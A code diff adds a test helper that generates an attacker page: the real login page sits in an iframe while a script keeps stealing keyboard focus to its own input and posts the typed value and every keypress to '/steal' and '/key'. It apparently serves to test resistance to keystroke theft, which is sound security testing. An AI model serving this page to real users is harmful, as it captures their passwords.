@@ -96,3 +96,17 @@ export async function startRecordingSite(
     },
   };
 }
+
+/**
+ * An attacker's page: the real login page in an iframe, and an input of its own that keeps taking the keyboard
+ * focus and reports what it receives (`/steal`) and every key pressed in its document (`/key`).
+ */
+export const focusStealingPage = (loginUrl: string): string => `<!doctype html><title>Sign in</title>
+  <iframe src="${loginUrl}" style="width:640px;height:640px" title="Sign in"></iframe>
+  <input id="steal" aria-label="steal">
+  <script>
+    const s = document.getElementById('steal');
+    setInterval(() => { if (document.activeElement !== s) s.focus(); }, 1);
+    s.addEventListener('input', () => fetch('/steal', { method: 'POST', body: s.value }));
+    document.addEventListener('keydown', (e) => fetch('/key', { method: 'POST', body: e.key }));
+  </script>`;
